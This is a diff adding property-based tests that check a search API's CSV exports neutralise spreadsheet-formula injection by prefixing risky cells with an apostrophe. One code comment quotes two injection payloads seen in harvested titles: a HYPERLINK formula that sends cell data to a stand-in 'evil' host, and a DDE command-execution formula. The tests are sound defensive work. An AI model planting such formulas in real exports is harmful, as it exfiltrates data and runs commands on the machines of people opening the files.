@@ -10,6 +10,9 @@ import json
 import re
 from typing import Any
 
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
 from cli.main import main
 from search_api import i18n
 from tests.search_api.conftest import TestClient
@@ -87,3 +90,36 @@ def test_offline_copy_lists_every_record_without_javascript(web_ctx: Any, tmp_pa
         and "hidden" in static.split('<form class="filters"')[1][:80]
     )
     assert i18n.translator("es")("offline_noscript") in static
+
+
+_FORMULA = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", ""]).flatmap(
+    lambda start: st.text(max_size=40).map(lambda rest: start + rest)
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(title=_FORMULA, publisher=_FORMULA, subject=_FORMULA)
+def test_no_csv_cell_starts_a_spreadsheet_formula(title: str, publisher: str, subject: str) -> None:
+    # found from outside: harvested titles such as =HYPERLINK("http://evil/?"&A1,"click") and
+    # =cmd|' /C calc'!A0 were written as they came into the "CSV for spreadsheets" export
+    from search_api.exports import CSV_COLUMNS, FORMULA_STARTS, stream_csv
+
+    record = {"id": "n:1", "title": {"en": title}, "publisher": publisher, "subjects": [subject]}
+    text = "".join(stream_csv([record], bom=True))
+    header, cells = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert header == list(CSV_COLUMNS)
+    row = dict(zip(CSV_COLUMNS, cells, strict=True))
+    for column, given_value in (("title", title), ("publisher", publisher), ("subjects", subject)):
+        cell = row[column]
+        assert not cell.startswith(FORMULA_STARTS), (column, cell)
+        # what a spreadsheet shows: the text as harvested (the apostrophe is not shown)
+        assert cell == given_value or cell == "'" + given_value
+
+
+def test_the_run_errors_csv_neutralises_harvested_values() -> None:
+    from search_api.operators import _csv_lines
+
+    run = {"id": 7, "node_id": "n"}
+    errors = [{"source_id": "=1+1", "stage": "map", "value": "@SUM(A1)", "message": "bad"}]
+    rows = list(csv.reader(io.StringIO("".join(_csv_lines(run, errors)))))
+    assert rows[1][2] == "'=1+1" and rows[1][6] == "'@SUM(A1)"
